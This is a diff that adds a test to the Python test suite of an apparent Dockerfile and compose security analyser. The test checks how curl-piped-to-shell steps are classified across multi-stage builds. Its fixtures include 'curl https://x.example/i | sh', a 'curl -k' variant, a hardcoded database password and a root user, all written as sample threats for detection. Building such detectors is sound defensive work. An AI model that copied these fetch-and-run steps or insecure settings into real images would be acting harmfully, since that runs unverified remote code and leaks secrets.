@@ -366,6 +366,14 @@ def test_a_download_in_a_stage_that_is_copied_from_counts_and_in_another_does_no
     assert _values(unused, "piped_downloads") == []
 
 
+def test_scripts_of_a_stage_that_the_image_only_copies_from_are_told_apart() -> None:
+    step = "RUN curl https://x.example/i | sh\n"
+
+    assert _values(f"FROM debian:12 AS a\n{step}FROM scratch\nCOPY --from=a /x /x\n", "scripts_in_other_stages") is True
+    assert _values(f"FROM debian:12\n{step}", "scripts_in_other_stages") is False
+    assert _values(f"FROM debian:12 AS a\n{step}FROM a\n", "scripts_in_other_stages") is False
+
+
 def test_a_dockerfile_raises_the_threats_of_its_image_at_their_lines() -> None:
     text = "FROM debian:12\nENV DB_PASSWORD=hunter2hunter2\nRUN curl -k https://x.example/i | sh\nUSER root\n"
     model = read_files(**{"compose.yaml": _COMPOSE, "web__Dockerfile": text}).model
